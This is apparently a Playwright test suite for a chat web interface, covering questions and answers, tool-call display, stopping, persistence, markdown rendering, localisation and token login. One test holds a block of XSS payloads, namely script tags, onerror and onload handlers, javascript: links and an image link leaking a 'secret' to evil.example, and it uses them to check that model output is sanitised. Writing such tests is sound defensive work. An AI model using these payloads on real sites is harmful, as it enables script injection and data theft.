"""The page in a real Chromium: asking, watching, unfolding, stopping, coming back."""

import json

import pytest
from playwright.async_api import Browser, Page, expect

from tests.bot.pages.conftest import Enter
from tests.servers.page_service import PageService

pytestmark = pytest.mark.asyncio(loop_scope="session")

SUM = "What is 12.5*(3+4)?"


async def ask(page: Page, text: str) -> None:
    await page.fill("#question", text)
    await page.press("#question", "Enter")


async def answered(page: Page, count: int = 1) -> None:
    await expect(page.locator(".turn:not(.pending)")).to_have_count(count)


async def test_a_question_is_answered_and_its_tool_call_unfolds(enter: Enter) -> None:
    page = await enter()
    await ask(page, SUM)
    await answered(page)
    await expect(page.locator(".answer")).to_have_text(f"You said: {SUM}")
    await expect(page.locator(".facts")).to_have_text("stand-in · 342 tokens · 0.4 s")
    await expect(page.locator(".thought")).to_have_text("Work it out")
    tool = page.locator(".tool")
    result = tool.locator("pre").last
    await expect(result).to_be_hidden()
    await tool.locator("summary").click()
    await expect(result).to_have_text("87.5")
    await expect(tool.locator("pre").first).to_contain_text('"expression": "12.5*(3+4)"')
    await tool.locator("summary").focus()
    await page.keyboard.press("Enter")
    await expect(result).to_be_hidden()


async def test_thoughts_and_tools_are_seen_while_it_works(
    enter: Enter, service: PageService
) -> None:
    page = await enter()
    await ask(page, "hold 12.5 and fail")
    await expect(page.locator(".pending .tool .name")).to_have_text(["calculator", "calculator"])
    await expect(page.locator(".tool.failed")).to_contain_text("Division by zero")
    await expect(page.locator(".pending .answer")).to_have_text("You said: hold")
    await page.locator(".tool summary").first.click()
    service.release()
    await answered(page)
    await expect(page.locator(".tool details").first).to_have_attribute("open", "")


async def test_everything_is_there_after_a_reload(enter: Enter) -> None:
    page = await enter()
    await ask(page, SUM)
    await answered(page)
    await page.locator(".turn button[title='Good answer']").click()
    await expect(page.locator("[aria-pressed=true]")).to_have_count(1)
    await page.reload()
    await answered(page)
    await expect(page.locator("button[title='Good answer']")).to_have_attribute(
        "aria-pressed", "true"
    )
    await expect(page.locator("#list a")).to_have_text(SUM)
    await expect(page.locator("#title")).to_have_value(SUM)
    await expect(page.locator(".tool")).to_contain_text("87.5")


async def test_thumbs_are_kept_and_taken_back(enter: Enter, service: PageService) -> None:
    page = await enter()
    await ask(page, "hi")
    await answered(page)
    turn = f"web:{service.core.told[0].event_id}"
    for title, kept in (("Bad answer", {"owner": "down"}), ("Bad answer", {})):
        async with page.expect_response("**/rating"):
            await page.locator(f"button[title='{title}']").click()
        record = service.do(service.store.record(turn))
        assert record is not None and record.ratings == kept


async def test_stop_by_button_and_by_key(enter: Enter) -> None:
    page = await enter()
    for number, how in enumerate(("button", "key"), start=1):
        await ask(page, "hold it")
        await expect(page.locator(".pending .answer")).to_have_text("You said")
        if how == "button":
            await page.locator("#go[title='Stop']").click()
        else:
            await page.keyboard.press("Escape")
        await answered(page, number)
        await expect(page.locator(".turn").last.locator(".notice")).to_have_text("Stopped.")


async def test_ask_again_is_offered_for_the_last_question(
    enter: Enter, service: PageService
) -> None:
    page = await enter()
    await ask(page, "one")
    await answered(page)
    await ask(page, "two")
    await answered(page, 2)
    retry = page.locator("button.retry:visible")
    await expect(retry).to_have_count(1)
    await retry.click()
    await answered(page, 3)
    assert [message.text for message in service.core.told] == ["one", "two", "two"]


async def test_questions_may_be_asked_while_one_is_answered(
    enter: Enter, service: PageService
) -> None:
    page = await enter()
    await ask(page, "hold one")
    await expect(page.locator(".pending .answer").first).to_have_text("You said:")
    await ask(page, "two")
    await expect(page.locator(".pending .notice").last).to_have_text("Waiting for its turn")
    service.release()
    await answered(page, 2)
    await expect(page.locator(".answer")).to_have_text(["You said: hold one", "You said: two"])


async def test_a_restart_loses_nothing(enter: Enter, service: PageService) -> None:
    page = await enter()
    await ask(page, "hold on")
    await expect(page.locator(".pending .answer")).to_have_text("You said")
    service.stop()
    await expect(page.locator("#away")).to_contain_text("Nothing is lost")
    await ask(page, "said while away")
    await expect(page.locator(".question")).to_have_text(["hold on", "said while away"])
    service.start()
    await expect(page.locator(".pending .answer").first).to_have_text("You said")
    service.release()
    await answered(page, 2)
    await expect(page.locator("#away")).to_be_hidden()
    await expect(page.locator(".answer")).to_have_text(
        ["You said: hold on", "You said: said while away"]
    )


async def test_what_was_not_sent_yet_outlives_the_page(enter: Enter, service: PageService) -> None:
    page = await enter()
    await ask(page, "hi")
    await answered(page)
    await page.route("**/messages", lambda route: route.abort())
    await ask(page, "unsent")
    await expect(page.locator("#away")).to_contain_text("is sent as soon as")
    await page.unroute("**/messages")
    await page.reload()
    await answered(page, 2)
    assert [message.text for message in service.core.told] == ["hi", "unsent"]


ATTACK = """<img src=x onerror="window.hit=1"><script>window.hit=1</script>
[click](javascript:window.hit=1) [data](data:text/html,<script>1</script>) <svg/onload=window.hit=1>
![pixel](https://evil.example/?secret) [a "b" onmouseover=window.hit=1](https://ok.example/)
| <b>x</b> | `</code><i>` |
|---|---|
| <u>y</u> | [z](vbscript:1) |

```html"><img src=x onerror=window.hit=1>
</pre><script>window.hit=1</script>
```
"""


async def test_what_a_model_writes_never_becomes_a_page(enter: Enter, service: PageService) -> None:
    asked: list[str] = []
    question = "<img src=x onerror=window.hit=1> 12.5"
    service.answers[question] = ATTACK
    page = await enter()
    page.on("request", lambda request: asked.append(request.url))
    await ask(page, question)
    await answered(page)
    for summary in await page.locator(".tool summary").all():
        await summary.click()
    await page.fill("#title", "<img src=x onerror=window.hit=1>")
    async with page.expect_response("**/api/conversations"):
        await page.press("#title", "Enter")
    await page.reload()
    await answered(page)
    await expect(page.locator("#list a")).to_have_text("<img src=x onerror=window.hit=1>")
    assert await page.evaluate("window.hit") is None
    assert all(url.startswith(service.url) for url in asked)
    made = await page.evaluate(
        """() => [...document.querySelectorAll("#turns *, #list *")].map((e) => e.localName)
             .filter((name) => ["img", "script", "iframe", "b", "u", "i"].includes(name)
               && !["tool"].includes(name))"""
    )
    assert set(made) <= {"b"}, "only the page's own <b> of a result's preview"
    links = page.locator(".answer a")
    assert [await link.get_attribute("href") for link in await links.all()] == [
        "https://evil.example/?secret",
        "https://ok.example/",
    ]
    for link in await links.all():
        assert "noopener" in (await link.get_attribute("rel") or "")
    await expect(page.locator(".answer")).to_contain_text("<script>window.hit=1</script>")


MARKDOWN = """# Title
Some **bold**, *slanted*, ~~gone~~ and `code`; **“引号”**后 and 3*4*5 or 2**3**2, snake_case_name.
New line

1. one
2. two
   - inner
   - more

   still two
3. three

> quoted
> > twice

| Left | Right |
|:-----|------:|
| a\\|b | 1 |

```python
print("*not slanted*")
```
---
See https://example.org/a_b(c). \\*literal\\*
"""


async def test_markdown_is_drawn(enter: Enter, service: PageService) -> None:
    service.answers["md"] = MARKDOWN
    page = await enter()
    await ask(page, "md")
    await answered(page)
    answer = page.locator(".answer")
    await expect(answer.locator("h2")).to_have_text("Title")
    await expect(answer.locator("strong")).to_have_text(["bold", "“引号”"])
    await expect(answer.locator("em")).to_have_text("slanted")
    await expect(answer.locator("p").first).to_contain_text("3*4*5 or 2**3**2, snake_case_name.")
    await expect(answer.locator("> ol > li")).to_have_count(3)
    await expect(answer.locator("li li")).to_have_text(["inner", "more"])
    await expect(answer.locator("ol > li").nth(1)).to_contain_text("still two")
    await expect(answer.locator("blockquote blockquote")).to_have_text("twice")
    await expect(answer.locator("td")).to_have_text(["a|b", "1"])
    await expect(answer.locator("pre")).to_have_text('print("*not slanted*")')
    await expect(answer.locator("hr")).to_have_count(1)
    await expect(answer.locator("a")).to_have_attribute("href", "https://example.org/a_b(c")
    await expect(answer.locator("p").last).to_contain_text("*literal*")


async def test_odd_markdown_is_drawn_soon(enter: Enter, service: PageService) -> None:
    odd = {
        "stars": "**" * 3000,
        "quotes": "> " * 3000 + "x",
        "lists": "\n".join(" " * n + "- x" for n in range(300)),
        "pipes": "|" * 3000 + "\n" + "|-" * 3000,
        "brackets": "[" * 3000 + "](" * 3000,
        "fence": "```\nnever closed",
        "ticks": "`" * 2999 + "x" + "`" * 1000,
    }
    service.answers.update(odd)
    page = await enter()
    for number, name in enumerate(odd, start=1):
        await ask(page, name)
        await answered(page, number)
    await expect(page.locator(".answer pre").last).to_be_attached()


async def test_code_is_copied(enter: Enter, service: PageService) -> None:
    service.answers["code"] = "```\nx = 1\ny = 2\n```"
    page = await enter(permissions=["clipboard-read", "clipboard-write"])
    await ask(page, "code")
    await answered(page)
    await page.locator(".answer .copy").click()
    await expect(page.locator(".answer .copy")).to_have_text("Copied")
    assert await page.evaluate("navigator.clipboard.readText()") == "x = 1\ny = 2"


async def test_enter_sends_and_shift_enter_does_not(enter: Enter, service: PageService) -> None:
    page = await enter()
    await page.focus("#question")
    await page.keyboard.type("one")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("two")
    await page.keyboard.press("Enter")
    await answered(page)
    await page.keyboard.press("Enter")
    assert [message.text for message in service.core.told] == ["one\ntwo"]
    await expect(page.locator("#question")).to_be_focused()


async def test_enter_that_chooses_a_character_does_not_send(
    enter: Enter, service: PageService
) -> None:
    page = await enter(locale="zh-CN")
    await page.focus("#question")
    keys = await page.context.new_cdp_session(page)
    await keys.send(
        "Input.imeSetComposition", {"text": "ni", "selectionStart": 2, "selectionEnd": 2}
    )
    await page.keyboard.press("Enter")
    await expect(page.locator("#question")).not_to_have_value("")
    assert service.core.told == []
    await keys.send("Input.insertText", {"text": "你好"})
    await page.keyboard.press("Enter")
    await answered(page)
    assert len(service.core.told) == 1 and "你好" in service.core.told[0].text


async def test_a_new_chat_by_key_and_back_by_the_browser(enter: Enter) -> None:
    page = await enter()
    await ask(page, "first")
    await answered(page)
    await page.keyboard.press("Control+k")
    await expect(page.locator("#hello")).to_be_visible()
    await expect(page.locator("#question")).to_be_focused()
    await ask(page, "second")
    await answered(page)
    await expect(page.locator("#list a")).to_have_text(["second", "first"])
    await page.go_back()
    await page.go_back()
    await expect(page.locator(".question")).to_have_text("first")
    await page.locator("#list a", has_text="second").click()
    await expect(page.locator(".question")).to_have_text("second")


async def test_a_conversation_is_renamed_forgotten_and_deleted(
    enter: Enter, service: PageService
) -> None:
    page = await enter()
    await ask(page, "first")
    await answered(page)
    await page.fill("#title", "My sums")
    await page.press("#title", "Enter")
    await expect(page.locator("#list a")).to_have_text("My sums")
    await page.click("#reset-button")
    await expect(page.locator(".mark")).to_be_visible()
    name = service.core.told[0].conversation
    assert service.do(service.store.history(name)).turns == ()
    await page.click("#remove-button")
    await page.locator("#sure button[value=no]").click()
    await expect(page.locator("#list a")).to_have_count(1)
    await page.click("#remove-button")
    await page.locator("#sure button[value=yes]").click()
    await expect(page.locator("#list a")).to_have_count(0)
    await expect(page.locator("#hello")).to_be_visible()


async def test_the_language_of_the_answers_is_chosen(enter: Enter, service: PageService) -> None:
    page = await enter()
    await page.select_option("#language", "zh")
    await ask(page, "hi")
    await answered(page)
    profile = service.do(service.store.profile(service.core.told[0].conversation))
    assert profile is not None and profile.language == "zh"
    await page.reload()
    await expect(page.locator("#language")).to_have_value("zh")


async def test_older_turns_come_when_asked_for(enter: Enter, service: PageService) -> None:
    page = await enter()
    await ask(page, "q0")
    await answered(page)
    name = service.core.told[0].chat_id
    await page.evaluate(
        """async (name) => { for (let n = 1; n < 53; n += 1)
             await fetch(`/api/conversations/${name}/messages`,
               { method: "POST", body: JSON.stringify({ message: `q${n}` }) }); }""",
        name,
    )
    await page.reload()
    await answered(page, 50)
    await page.click("#older")
    await answered(page, 53)
    await expect(page.locator(".question").first).to_have_text("q0")
    await expect(page.locator("#older")).to_be_hidden()


async def test_light_and_dark(enter: Enter) -> None:
    async def paper(page: Page) -> str:
        colour: str = await page.evaluate("getComputedStyle(document.body).backgroundColor")
        return colour

    light, dark = await enter(color_scheme="light"), await enter(color_scheme="dark")
    shades = await paper(light), await paper(dark)
    assert shades[0] != shades[1]
    await light.click("#theme-toggle")
    assert await paper(light) == shades[1]
    await light.reload()
    assert await paper(light) == shades[1]


async def test_a_phone_shows_everything_without_scrolling_sideways(
    enter: Enter, service: PageService
) -> None:
    service.answers["wide"] = (
        "x" * 300 + "\n\n```\n" + "y" * 300 + "\n```\n\n|" + "z" * 90 + "|\n|-|"
    )
    page = await enter(viewport={"width": 360, "height": 740}, has_touch=True)
    await expect(page.locator("#side")).not_to_be_visible()
    await ask(page, "wide")
    await answered(page)
    await page.click("#menu-button")
    await expect(page.locator("#list a")).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(page.locator("#side")).not_to_be_visible()
    assert await page.evaluate("document.documentElement.scrollWidth") == 360
    assert await page.evaluate("document.getElementById('scroll').scrollWidth") <= 360


async def test_the_page_speaks_chinese(enter: Enter) -> None:
    page = await enter(locale="zh-CN")
    await expect(page.locator("#hello h1")).to_have_text("想了解什么？")
    await expect(page.locator("#new")).to_contain_text("新对话")
    assert await page.evaluate("document.documentElement.lang") == "zh-CN"


async def test_the_page_says_who_answers(enter: Enter, service: PageService) -> None:
    page = await enter()
    await expect(page.locator("#honest")).to_contain_text("come from stand-in")
    service.starter = True
    await page.reload()
    await expect(page.locator("#honest")).to_contain_text("nothing else")


async def test_the_door_takes_a_link_once_and_a_token(
    enter: Enter, browser: Browser, service: PageService
) -> None:
    link = service.link
    page = await (await browser.new_context(locale="en-US")).new_page()
    await page.goto(link)
    await expect(page.locator("#hello")).to_be_visible()
    assert "#" not in page.url and link.partition("#")[2] not in page.url
    assert link.partition("#")[2] not in json.dumps(await page.evaluate("performance.getEntries()"))
    await page.context.close()
    page = await (await browser.new_context(locale="en-US")).new_page()
    await page.goto(link)
    await expect(page.locator("output")).to_contain_text("was used")
    await page.fill("input[name=token]", "wrong")
    await page.click("button")
    await expect(page.locator("output")).to_contain_text("not ours")
    await page.fill("input[name=token]", service.token)
    await page.click("button")
    await expect(page.locator("#hello")).to_be_visible()
    assert await page.evaluate("document.cookie") == ""
    await page.click("#leave-button")
    await expect(page.locator("input[name=token]")).to_be_visible()
    await page.goto(service.url)
    await expect(page.locator("input[name=token]")).to_be_visible()
    await page.context.close()
